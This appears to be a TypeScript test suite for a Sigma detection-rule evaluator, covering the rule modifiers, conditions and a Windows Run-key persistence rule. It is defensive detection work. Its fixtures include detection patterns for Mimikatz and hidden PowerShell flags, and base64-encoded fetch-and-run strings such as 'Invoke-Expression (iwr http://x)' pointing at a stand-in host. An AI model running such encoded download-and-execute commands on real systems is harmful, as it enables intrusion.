import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { compileSigmaRule, type SigmaEvent, SigmaRuleSet } from './rule-evaluator.ts';
import { parseSigmaRule } from './rule-parser.ts';

/**
 * Local evaluation, from the specification's own examples (rules specification 2.0 and the modifiers
 * appendix 2.1) and from realistic registry persistence rules (ATT&CK T1547.001).
 */

function rule(detection: string, logsource = 'category: process_creation\n    product: windows'): ReturnType<typeof compileSigmaRule> {
  return compileSigmaRule(parseSigmaRule(`title: test rule\nlogsource:\n    ${logsource}\ndetection:\n${detection}\n`));
}

function matches(detection: string, event: SigmaEvent): boolean {
  return rule(detection).matches(event);
}

describe('specification examples', () => {
  test('whoami: a plain value matches the whole field, case-insensitively', () => {
    const r = rule("    selection:\n        Image: 'C:\\Windows\\System32\\whoami.exe'\n    condition: selection");
    assert.equal(r.matches({ Image: 'C:\\Windows\\System32\\whoami.exe' }), true);
    assert.equal(r.matches({ Image: 'c:\\windows\\system32\\WHOAMI.EXE' }), true);
    assert.equal(r.matches({ Image: 'C:\\Windows\\System32\\whoami.exe.bak' }), false);
    assert.equal(r.matches({ CommandLine: 'whoami' }), false);
  });

  test('maps AND their entries, lists OR their values (EventLog Security and EventID 517 or 1102)', () => {
    const d = '    selection:\n        EventLog: Security\n        EventID:\n            - 517\n            - 1102\n    condition: selection';
    assert.equal(matches(d, { EventLog: 'Security', EventID: 1102 }), true);
    assert.equal(matches(d, { EventLog: 'security', EventID: '517' }), true);
    assert.equal(matches(d, { EventLog: 'Security', EventID: 4624 }), false);
    assert.equal(matches(d, { EventLog: 'System', EventID: 517 }), false);
  });

  test("quoted hex values compare as text ('0x40810000')", () => {
    const d = "    selection:\n        EventID: 4769\n        TicketOptions: '0x40810000'\n        TicketEncryption: '0x17'\n    condition: selection";
    assert.equal(matches(d, { EventID: 4769, TicketOptions: '0x40810000', TicketEncryption: '0x17' }), true);
    assert.equal(matches(d, { EventID: 4769, TicketOptions: '0x40810000', TicketEncryption: '0x12' }), false);
  });

  test('keyword lists match anywhere in the event, OR', () => {
    const d = "    keywords:\n        - 'EVILSERVICE'\n        - 'svchost.exe -n evil'\n    condition: keywords";
    assert.equal(matches(d, { Message: 'Service EvilService was installed' }), true);
    assert.equal(matches(d, { a: { nested: ['x', 'C:\\svchost.exe -n evil'] } }), true);
    assert.equal(matches(d, { Message: 'svchost.exe -k netsvcs' }), false);
  });

  test("keywords with '|all' need every value", () => {
    const d = "    keywords_cmdlet:\n        '|all':\n            - 'OabVirtualDirectory'\n            - ' -ExternalUrl '\n    condition: keywords_cmdlet";
    assert.equal(matches(d, { Payload: 'Set-OabVirtualDirectory -ExternalUrl http://x' }), true);
    assert.equal(matches(d, { Payload: 'Set-OabVirtualDirectory -InternalUrl http://x' }), false);
  });

  test('a list of maps ORs the maps', () => {
    const d = "    selection:\n        - Image|endswith: '\\example.exe'\n        - Description|contains: 'Test executable'\n    condition: selection";
    assert.equal(matches(d, { Image: 'C:\\x\\EXAMPLE.exe' }), true);
    assert.equal(matches(d, { Image: 'C:\\x\\other.exe', Description: 'a test executable here' }), true);
    assert.equal(matches(d, { Image: 'C:\\x\\other.exe', Description: 'Calculator' }), false);
  });

  test('null matches a missing or null field (selection and not filter)', () => {
    const d = '    selection:\n        EventID: 4738\n    filter:\n        PasswordLastSet: null\n    condition: selection and not filter';
    assert.equal(matches(d, { EventID: 4738, PasswordLastSet: '2026-11-01' }), true);
    assert.equal(matches(d, { EventID: 4738, PasswordLastSet: null }), false);
    assert.equal(matches(d, { EventID: 4738 }), false);
  });

  test('exists checks presence only, even of an empty value', () => {
    const d = '    selection:\n        EventID: 4738\n        PasswordLastSet|exists: true\n    condition: selection';
    assert.equal(matches(d, { EventID: 4738, PasswordLastSet: '' }), true);
    assert.equal(matches(d, { EventID: 4738 }), false);
    const absent = '    selection:\n        Extra|exists: false\n    condition: selection';
    assert.equal(matches(absent, { Other: 1 }), true);
    assert.equal(matches(absent, { Extra: null }), false);
  });

  test('wildcards: * any run, ? one character, escapes per the spec', () => {
    assert.equal(matches("    s:\n        Image: 'prog?.exe'\n    condition: s", { Image: 'progA.exe' }), true);
    assert.equal(matches("    s:\n        Image: 'prog?.exe'\n    condition: s", { Image: 'prog.exe' }), false);
    assert.equal(matches("    s:\n        Image: 'antivirus_V*.exe'\n    condition: s", { Image: 'antivirus_V21.2.1.exe' }), true);
    assert.equal(matches("    s:\n        Image: 'a*b*c'\n    condition: s", { Image: 'aXbYbZc' }), true);
    assert.equal(matches("    s:\n        Image: 'a*b*c'\n    condition: s", { Image: 'aXbYbZcd' }), false);
    // \* is a literal star; \\* a backslash then a wildcard; \\\* a backslash and a literal star.
    assert.equal(matches("    s:\n        F: 'a\\*'\n    condition: s", { F: 'a*' }), true);
    assert.equal(matches("    s:\n        F: 'a\\*'\n    condition: s", { F: 'ab' }), false);
    assert.equal(matches("    s:\n        F: 'a\\\\*'\n    condition: s", { F: 'a\\anything' }), true);
    assert.equal(matches("    s:\n        F: 'a\\\\\\*'\n    condition: s", { F: 'a\\*' }), true);
    assert.equal(matches("    s:\n        F: 'a\\\\\\*'\n    condition: s", { F: 'a\\x' }), false);
    // A plain backslash not before a wildcard is itself.
    assert.equal(matches("    s:\n        F: 'C:\\Windows\\System32'\n    condition: s", { F: 'c:\\windows\\system32' }), true);
    assert.equal(matches("    s:\n        F: 'C:\\Windows\\\\*'\n    condition: s", { F: 'C:\\Windows\\notepad.exe' }), true);
    assert.equal(
      matches("    s:\n        F: 'C:\\Windows\\*'\n    condition: s", { F: 'C:\\Windows\\notepad.exe' }),
      false,
      'a single backslash escapes the star',
    );
  });

  test('conditions: 1 of / all of patterns, them (without _ identifiers), precedence, lists OR', () => {
    const base = '    selection_a:\n        A: 1\n    selection_b:\n        B: 1\n    filter_x:\n        X: 1\n    _helper:\n        H: 1\n';
    assert.equal(matches(`${base}    condition: 1 of selection* and not 1 of filter*`, { A: 1 }), true);
    assert.equal(matches(`${base}    condition: 1 of selection* and not 1 of filter*`, { A: 1, X: 1 }), false);
    assert.equal(matches(`${base}    condition: all of selection_*`, { A: 1 }), false);
    assert.equal(matches(`${base}    condition: all of selection_*`, { A: 1, B: 1 }), true);
    assert.equal(matches(`${base}    condition: all of them`, { A: 1, B: 1, X: 1 }), true, 'the _helper identifier is not part of "them"');
    assert.equal(matches(`${base}    condition: 1 of them`, { H: 1 }), false);
    // not binds tighter than and, and tighter than or.
    assert.equal(matches(`${base}    condition: selection_a or selection_b and filter_x`, { A: 1 }), true);
    assert.equal(matches(`${base}    condition: (selection_a or selection_b) and filter_x`, { A: 1 }), false);
    assert.equal(matches(`${base}    condition: not selection_a and selection_b`, { B: 1 }), true);
    assert.equal(matches(`${base}    condition: NOT selection_a AND selection_b`, { A: 1, B: 1 }), false);
    assert.equal(matches(`${base}    condition:\n        - selection_a and filter_x\n        - selection_b`, { B: 1 }), true);
  });
});

describe('modifiers', () => {
  test('contains / startswith / endswith, and all', () => {
    assert.equal(matches("    s:\n        CommandLine|contains: 'MiMiKaTz'\n    condition: s", { CommandLine: 'run mimikatz.exe' }), true);
    assert.equal(matches("    s:\n        CommandLine|startswith: 'cmd'\n    condition: s", { CommandLine: 'CMD /c x' }), true);
    assert.equal(matches("    s:\n        CommandLine|startswith: 'cmd'\n    condition: s", { CommandLine: 'x cmd' }), false);
    const all = "    s:\n        CommandLine|contains|all:\n            - ' -nop '\n            - ' -w hidden '\n    condition: s";
    assert.equal(matches(all, { CommandLine: 'powershell -nop -w hidden -c x' }), true);
    assert.equal(matches(all, { CommandLine: 'powershell -nop -c x' }), false);
  });

  test('cased makes matching case-sensitive', () => {
    const d = "    s:\n        CommandLine|contains|cased: 'IEX'\n    condition: s";
    assert.equal(matches(d, { CommandLine: 'IEX (New-Object x)' }), true);
    assert.equal(matches(d, { CommandLine: 'iex (new-object x)' }), false);
  });

  test('re with i, m and s sub-modifiers; case-sensitive by default', () => {
    assert.equal(
      matches("    s:\n        CommandLine|re: '-e(nc|ncodedcommand) [A-Za-z0-9+/=]{20,}'\n    condition: s", {
        CommandLine: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      }),
      true,
    );
    assert.equal(matches("    s:\n        CommandLine|re: 'Invoke-Mimikatz'\n    condition: s", { CommandLine: 'invoke-mimikatz' }), false);
    assert.equal(matches("    s:\n        CommandLine|re|i: 'Invoke-Mimikatz'\n    condition: s", { CommandLine: 'invoke-mimikatz' }), true);
    assert.equal(matches("    s:\n        Text|re: '^second'\n    condition: s", { Text: 'first\nsecond' }), false);
    assert.equal(matches("    s:\n        Text|re|m: '^second'\n    condition: s", { Text: 'first\nsecond' }), true);
    assert.equal(matches("    s:\n        Text|re: 'first.second'\n    condition: s", { Text: 'first\nsecond' }), false);
    assert.equal(matches("    s:\n        Text|re|s: 'first.second'\n    condition: s", { Text: 'first\nsecond' }), true);
  });

  test('base64 and base64offset (the appendix example: http://)', () => {
    const d = "    s:\n        CommandLine|base64offset|contains: 'http://'\n    condition: s";
    for (const prefix of ['', 'a', 'ab']) {
      const encoded = Buffer.from(`${prefix}http://evil.example/x`).toString('base64');
      assert.equal(matches(d, { CommandLine: `powershell -enc ${encoded}` }), true, `offset ${prefix.length}`);
    }
    assert.equal(matches(d, { CommandLine: `powershell -enc ${Buffer.from('https://x').toString('base64')}` }), false);
    assert.equal(matches("    s:\n        Data|base64: 'cmd'\n    condition: s", { Data: 'Y21k' }), true);
  });

  test('utf16le / wide with base64offset find PowerShell -EncodedCommand payloads', () => {
    const d = "    s:\n        CommandLine|wide|base64offset|contains: 'Invoke-Expression'\n    condition: s";
    for (const prefix of ['', 'x', 'xy']) {
      const encoded = Buffer.from(`${prefix}Invoke-Expression (iwr http://x)`, 'utf16le').toString('base64');
      assert.equal(matches(d, { CommandLine: `powershell.exe -EncodedCommand ${encoded}` }), true, `offset ${prefix.length}`);
    }
    const be = "    s:\n        CommandLine|utf16be|base64|contains: 'cmd'\n    condition: s";
    assert.equal(matches(be, { CommandLine: `x ${Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]).toString('base64')} y` }), true);
  });

  test('windash accepts -, /, en dash, em dash and horizontal bar for flags', () => {
    const d = "    s:\n        CommandLine|windash|contains: ' -exec bypass'\n    condition: s";
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.equal(matches(d, { CommandLine: `powershell ${dash}exec bypass` }), true, dash);
    assert.equal(matches(d, { CommandLine: 'powershell exec bypass' }), false);
  });

  test('cidr for IPv4 and IPv6', () => {
    const d = "    s:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fd00::/8'\n    condition: s";
    assert.equal(matches(d, { DestinationIp: '10.20.30.40' }), true);
    assert.equal(matches(d, { DestinationIp: 'fd12::1' }), true);
    assert.equal(matches(d, { DestinationIp: '192.168.1.1' }), false);
    assert.equal(matches(d, { DestinationIp: 'not an ip' }), false);
  });

  test('gt / gte / lt / lte compare numbers; neq negates', () => {
    assert.equal(matches('    s:\n        Size|gt: 1000\n    condition: s', { Size: 1001 }), true);
    assert.equal(matches('    s:\n        Size|gt: 1000\n    condition: s', { Size: '1000' }), false);
    assert.equal(matches('    s:\n        Size|gte: 1000\n    condition: s', { Size: '1000' }), true);
    assert.equal(matches('    s:\n        Size|lt: 10\n    condition: s', { Size: 'ten' }), false);
    assert.equal(matches('    s:\n        Size|lte: 10\n    condition: s', { Size: 10 }), true);
    const neq = "    s:\n        EventID: 1\n        User|neq:\n            - 'SYSTEM'\n            - 'LOCAL SERVICE'\n    condition: s";
    assert.equal(matches(neq, { EventID: 1, User: 'alice' }), true);
    assert.equal(matches(neq, { EventID: 1, User: 'system' }), false);
  });

  test('a field holding an array matches when any element does; dotted names reach nested objects', () => {
    assert.equal(matches("    s:\n        Tags|contains: 'evil'\n    condition: s", { Tags: ['good', 'EVIL-one'] }), true);
    assert.equal(
      matches("    s:\n        Event.EventData.Image|endswith: '\\cmd.exe'\n    condition: s", { Event: { EventData: { Image: 'C:\\cmd.exe' } } }),
      true,
    );
    assert.equal(matches("    s:\n        a.b: 'x'\n    condition: s", { 'a.b': 'x' }), true);
  });
});

describe('realistic registry rules (T1547.001 Run keys)', () => {
  const runKeyRule = `title: Run key value pointing to a user-writable folder
id: 5f6a3c2e-8d1b-4b7a-9c4e-2a1d3e4f5a6b
status: experimental
logsource:
    category: registry_set
    product: windows
detection:
    selection_key:
        TargetObject|contains:
            - '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\'
            - '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\'
    selection_data:
        Details|contains:
            - '\\AppData\\Roaming\\'
            - '\\AppData\\Local\\Temp\\'
            - '\\Windows\\Temp\\'
            - '%APPDATA%'
            - '%TEMP%'
    filter_onedrive:
        Details|endswith: '\\Microsoft\\OneDrive\\OneDrive.exe" /background'
    condition: all of selection_* and not 1 of filter_*
level: high
tags:
    - attack.persistence
    - attack.t1547.001
`;

  test('hits values under HKLM and HKU Run keys that start programs from AppData or Temp', () => {
    const r = compileSigmaRule(parseSigmaRule(runKeyRule));
    assert.deepEqual(r.rule.attackTechniques, ['T1547.001']);
    const hit = (TargetObject: string, Details: string) => r.matches({ EventID: 13, EventType: 'SetValue', TargetObject, Details });
    assert.equal(hit('HKU\\S-1-5-21-1004\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\bob\\AppData\\Roaming\\upd\\svc.exe'), true);
    assert.equal(hit('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x', '%TEMP%\\stage2.exe'), true);
    assert.equal(hit('HKLM\\software\\microsoft\\windows\\currentversion\\run\\x', 'c:\\windows\\temp\\a.exe'), true);
    assert.equal(hit('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth', 'C:\\Windows\\system32\\SecurityHealthSystray.exe'), false);
    assert.equal(hit('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\x', 'C:\\Users\\bob\\AppData\\Roaming\\a.exe'), false);
    assert.equal(
      hit(
        'HKU\\S-1-5-21-1004\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
        '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      ),
      false,
    );
  });

  test('a rule set evaluates 100 rules per event and returns the ones that match', () => {
    const rules = [parseSigmaRule(runKeyRule)];
    for (let i = 0; i < 99; i++) {
      rules.push(
        parseSigmaRule(
          `title: value ${i}\nlogsource:\n    category: registry_set\ndetection:\n    s:\n        TargetObject|endswith: '\\Run\\value${i}'\n    condition: s\n`,
        ),
      );
    }
    const set = new SigmaRuleSet(rules);
    const found = set.matching({ TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\value7', Details: 'C:\\Windows\\Temp\\x.exe' });
    assert.deepEqual(
      found.map((r) => r.title),
      ['Run key value pointing to a user-writable folder', 'value 7'],
    );
  });
});
